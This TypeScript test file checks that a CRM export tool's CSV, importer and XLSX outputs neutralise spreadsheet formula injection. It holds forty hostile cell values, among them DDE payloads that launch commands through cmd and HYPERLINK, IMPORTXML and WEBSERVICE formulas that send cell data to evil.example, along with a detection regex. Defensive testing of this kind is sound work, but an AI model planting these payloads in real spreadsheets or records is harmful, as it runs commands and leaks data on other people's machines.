import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import type { JsonObject } from '../../src/base/json.ts';
import { csvExcel } from '../../src/formats/csv-excel.ts';
import { parseCsv } from '../../src/formats/csv-text.ts';
import { csv } from '../../src/formats/csv.ts';
import type { Format } from '../../src/formats/format.ts';
import { formats } from '../../src/formats/index.ts';
import { xlsx } from '../../src/formats/xlsx.ts';
import { kindById } from '../../src/kinds/index.ts';
import { describeWith } from '../support/needs.ts';
import { archiveOf, written } from './support.ts';

/** What people put into fields so that a spreadsheet of somebody else runs it. */
const payloads = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"тут")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\cmd.exe /c calc'!''",
  '+1+1',
  '+7 (916) 123-45-67',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '|cmd',
  '%0A=1',
  '"=1+1"',
  '";=1+1;"',
  ';=1+1',
  ',=1+1',
  '\r\n=1+1',
  'a\r\n=1+1',
  "'=1+1",
  '0001',
  '007',
  '1234567890123456789',
  '1e5',
  '3/4',
  'ИСТИНА',
  '<script>alert(1)</script>',
] as const;

const kinds = ['lead', 'deal', 'contact', 'company', 'task', 'user', 'requisite', 'activity'] as const;

/** Every column that people see holds a payload; every payload stands in every column once. */
function rowsOf(kindId: string): readonly JsonObject[] {
  const kind = kindById(kindId);
  const fields = (kind?.columns ?? []).map(({ field }) => field).filter((field) => /^\w+$/u.test(field));
  const key = typeof kind?.key === 'string' ? kind.key : 'id';
  return payloads.map((_, at) => ({
    ...Object.fromEntries(fields.map((field, index) => [field, payloads[(at + index) % payloads.length] ?? ''])),
    [key]: at + 1,
    fm: [{ id: at, typeId: 'PHONE', valueType: 'WORK', value: payloads[at] ?? '' }],
    ufCrm_5: payloads[at] ?? '',
  }));
}

const hostile = () => archiveOf(Object.fromEntries(kinds.map((kind) => [kind, rowsOf(kind)])));

/** What a spreadsheet takes for a formula at the beginning of a cell, whatever stands before it that it passes over. */
const runs = /^[\s\0\uFEFF\u00A0]*[=+\-@＝＋－＠|%]|^[\t\r\n]/u;

function tablesIn(folder: string): readonly { readonly name: string; readonly rows: readonly (readonly string[])[] }[] {
  return readdirSync(folder, { recursive: true })
    .map(String)
    .filter((name) => name.endsWith('.csv'))
    .map((name) => ({ name, rows: parseCsv(readFileSync(join(folder, name), 'utf8')) }));
}

/** A lone half of a letter has no bytes of its own, and `parseCsv` takes a lone CR for a part of a line end. */
const plain = (text: string): string => text.toWellFormed().replaceAll('\r', '');

it('has forty payloads', () => {
  expect(new Set(payloads).size).toBe(40);
});

describe('CSV for Excel', () => {
  it('has no cell in any column of any table that begins like a formula', async () => {
    const { folder } = await written(csvExcel, await hostile());
    const tables = tablesIn(folder);
    expect(tables.length).toBeGreaterThanOrEqual(kinds.length);
    const dangerous = tables.flatMap(({ name, rows }) =>
      rows.flatMap((row) =>
        row.filter((cell) => runs.test(cell) && !/^-?\d+(?:,\d+)?$/u.test(cell)).map((cell) => [name, cell]),
      ),
    );
    expect(dangerous).toEqual([]);
  });
});

const importers = ['espocrm', 'kommo', 'odoo', 'planfix', 'twenty', 'hubspot', 'pipedrive', 'tracker'];

describe('tables for programs', () => {
  it.each(['csv', ...importers])(
    '%s: no payload breaks a row, and a phone with a plus stays what it was',
    async (id) => {
      const format = formats.find((each) => each.id === id) as Format;
      const { folder } = await written(format, await hostile());
      const tables = tablesIn(folder).filter(({ rows }) => rows.length > 1);
      expect(tables.length).toBeGreaterThan(0);
      for (const { name, rows } of tables) {
        const widths = new Set(rows.map((row) => row.length));
        expect([name, widths.size]).toEqual([name, 1]);
      }
      const cells = new Set(tables.flatMap(({ rows }) => rows.flat().map((cell) => cell.trim())));
      expect([...cells].filter((cell) => cell.startsWith("'+7"))).toEqual([]);
    },
  );

  it('csv gives back any text of any field', async () => {
    const text = fc.oneof(
      fc.constantFrom(...payloads),
      fc.string({ unit: 'grapheme', maxLength: 40 }),
      fc.constantFrom('Ёжик № 5 — ₽', '🚀👨‍👩‍👧‍👦', 'שלום עולם', 'مرحبا', 'ж'.repeat(40_000), '007', '+79161234567', 'a\nb'),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 8 }), async (texts) => {
        const archive = await archiveOf({ deal: texts.map((title, index) => ({ id: index + 1, title })) });
        const { folder } = await written(csv, archive);
        const [header = [], ...rows] = parseCsv(readFileSync(join(folder, 'deal.csv'), 'utf8'));
        const at = header.indexOf('title');
        expect(rows.map((row) => plain(row[at] ?? ''))).toEqual(texts.map(plain));
      }),
      { numRuns: 15 },
    );
  });
});

const readTypes = `
import json, sys, openpyxl
book = openpyxl.load_workbook(sys.argv[1])
print(json.dumps([[sheet.title, c.data_type, str(c.value)] for sheet in book for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]))
`;

describeWith('openpyxl', 'XLSX, read by openpyxl', (python) => {
  it('holds every payload as a text, and no formula at all', async () => {
    const { folder } = await written(xlsx, await hostile());
    const books = readdirSync(folder).filter((name) => name.endsWith('.xlsx'));
    const cells = books.flatMap(
      (name) =>
        JSON.parse(
          execFileSync(python, ['-c', readTypes, join(folder, name)], { encoding: 'utf8', maxBuffer: 1 << 28 }),
        ) as readonly (readonly [string, string, string])[],
    );
    expect(cells.filter(([, type]) => type === 'f')).toEqual([]);
    const titles = new Set(cells.filter(([sheet]) => sheet === 'Сделки').map(([, , text]) => text));
    const kept = payloads.map((payload) => payload.replaceAll(/\r\n?/gu, '\n'));
    expect(kept.filter((payload) => !titles.has(payload))).toEqual([]);
  });
});
